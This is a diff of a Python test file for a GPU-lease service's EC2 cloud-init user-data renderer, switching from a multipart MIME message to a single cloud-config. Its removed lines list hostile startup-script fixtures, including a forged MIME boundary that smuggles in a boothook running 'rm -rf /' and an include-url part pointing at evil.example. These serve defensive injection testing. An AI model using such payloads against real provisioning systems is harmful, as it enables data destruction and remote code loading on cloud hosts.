@@ -1,11 +1,12 @@
-"""What the VM reads at boot, parsed back by the standard library as cloud-init does."""
+"""The user data for EC2, parsed back by the standard library and a YAML reader."""
 
+import base64
 import gzip
 import json
 import random
 import string
 from email import message_from_string
-from email.message import Message
+from typing import Any
 
 import pytest
 import yaml
@@ -15,19 +16,9 @@ from hypothesis import strategies as st
 from app.services.lease_requests import LARGEST_STARTUP_SCRIPT
 from tests.workers.providers.samples import KEY, spec
 from workers.providers.aws import deadman, userdata
+from workers.providers.common import cloud_init
 from workers.providers.errors import InvalidSpec
 from workers.providers.types import HostKeyReport
-
-HOSTILE_SCRIPTS = [
-    "#!/bin/sh\n--=_gpulease_\nContent-Type: text/cloud-boothook\n\nrm -rf /\n",
-    "#!/bin/sh\n" + "--=_gpulease_" + "0" * 32 + "--\n",
-    "#cloud-config\nusers: [root]\n",
-    "MIME-Version: 1.0\nContent-Type: text/x-include-url\n\nhttp://evil.example/\n",
-    "#!/bin/sh\r\necho 'carriage returns stay'\r\n",
-    "#!/bin/sh\necho ünïcödé 🚀 \u2028 \x0b \x00 end without newline",
-    "From here on it is not mail\n.\n\n.\n",
-]
-
 
 REPORT = HostKeyReport(url="https://gpu.example.org/v1/host-keys", token="f" * 64)
 
@@ -38,57 +29,42 @@ def noise(size: int) -> str:
     return "".join(generator.choices(string.ascii_letters + string.digits + "+/", k=size))
 
 
-def parts(text: str) -> list[Message]:
+def config(text: str) -> Any:
+    """The only part of the message, read as YAML, as cloud-init does."""
     message = message_from_string(text)
-    assert message.get_content_type() == "multipart/mixed"
-    assert message.defects == []
-    found = message.get_payload()
-    assert isinstance(found, list)
-    return [one for one in found if isinstance(one, Message)]
-
-
-def body(part: Message) -> bytes:
-    payload = part.get_payload(decode=True)
-    assert isinstance(payload, bytes)
-    return payload
+    assert (message.get_content_type(), message.defects) == ("text/cloud-config", [])
+    body = message.get_payload(decode=True)
+    assert isinstance(body, bytes)
+    assert body.startswith(b"#cloud-config\n")
+    return yaml.safe_load(body)
 
 
 def keys(text: str) -> list[str]:
-    config = body(parts(text)[0])
-    assert config.startswith(b"#cloud-config\n")
-    found = yaml.safe_load(config)
+    found = config(text)
     assert set(found) == {"ssh_authorized_keys", "write_files", "runcmd"}
-    assert {name: found[name] for name in ("write_files", "runcmd")} == deadman.cloud_config()
+    own = deadman.cloud_config()
+    assert found["write_files"][: len(own["write_files"])] == own["write_files"]
+    assert found["runcmd"][: len(own["runcmd"])] == own["runcmd"]
     return list(found["ssh_authorized_keys"])
 
 
-def test_keys_and_script_arrive_as_given() -> None:
-    text = userdata.render(spec(startup_script="#!/bin/sh\necho hi\n"))
-    config, script = parts(text)
-    assert config.get_content_type() == "text/cloud-config"
-    assert script.get_content_type() == "text/x-shellscript"
-    assert body(script) == b"#!/bin/sh\necho hi\n"
-    assert keys(text) == [KEY]
+def script(text: str) -> str:
+    file = config(text)["write_files"][-1]
+    assert (file["path"], file["encoding"]) == (cloud_init.STARTUP_SCRIPT, "gz+b64")
+    return gzip.decompress(base64.b64decode(file["content"])).decode()
 
 
-def test_without_a_script_there_is_only_the_configuration() -> None:
+def test_without_a_script_there_is_only_what_is_ours() -> None:
     for nothing in (None, ""):
-        assert len(parts(userdata.render(spec(startup_script=nothing)))) == 1
-
-
-@pytest.mark.parametrize("script", HOSTILE_SCRIPTS)
-def test_no_script_can_leave_its_part(script: str) -> None:
-    text = userdata.render(spec(startup_script=script))
-    assert [part.get_content_type() for part in parts(text)] == ["text/cloud-config", "text/x-shellscript"]
-    assert body(parts(text)[1]) == script.encode()
-    assert keys(text) == [KEY]
+        text = userdata.render(spec(startup_script=nothing))
+        assert config(text) == {**deadman.cloud_config(), "ssh_authorized_keys": [KEY]}
 
 
 @given(st.text(min_size=1, max_size=300))
-def test_any_script_arrives_byte_by_byte(script: str) -> None:
-    text = userdata.render(spec(startup_script=script))
-    assert body(parts(text)[1]) == script.encode()
-    assert text.isascii()
+def test_any_script_arrives_byte_by_byte(text: str) -> None:
+    rendered = userdata.render(spec(startup_script=text))
+    assert (script(rendered), keys(rendered)) == (text, [KEY])
+    assert rendered.isascii()
 
 
 @pytest.mark.parametrize(
@@ -128,7 +104,7 @@ def test_the_limit_counts_what_is_sent() -> None:
     sent = userdata.unpacked(userdata.packed(spec(startup_script=noise(LARGEST_STARTUP_SCRIPT))))
     assert len(sent) <= userdata.LIMIT
     with pytest.raises(InvalidSpec, match="16384"):
-        userdata.packed(spec(startup_script=noise(16 * 1024)))
+        userdata.packed(spec(startup_script=noise(24 * 1024)))
 
 
 def test_the_longest_script_that_the_api_takes_fits_beside_keys_and_all_of_ours() -> None:
@@ -140,19 +116,6 @@ def test_what_is_sent_is_the_text_compressed_and_the_same_each_time() -> None:
     first, second = userdata.packed(spec()), userdata.packed(spec())
     assert first == second
     assert gzip.decompress(userdata.unpacked(first)).decode() == userdata.render(spec())
-
-
-def test_our_own_commands_run_before_a_script_that_may_never_end() -> None:
-    _, script = parts(userdata.render(spec()))
-    name = script.get_filename()
-    assert name is not None
-    assert sorted(["runcmd", name]) == ["runcmd", name], "cloud-init runs scripts in the order of their names"
-
-
-def test_the_same_spec_gives_the_same_text_and_another_script_another_boundary() -> None:
-    assert userdata.render(spec()) == userdata.render(spec())
-    first, second = (userdata.render(spec(startup_script=text)).splitlines()[1] for text in ("a", "b"))
-    assert first != second
 
 
 def test_the_text_can_be_stored_as_json() -> None:
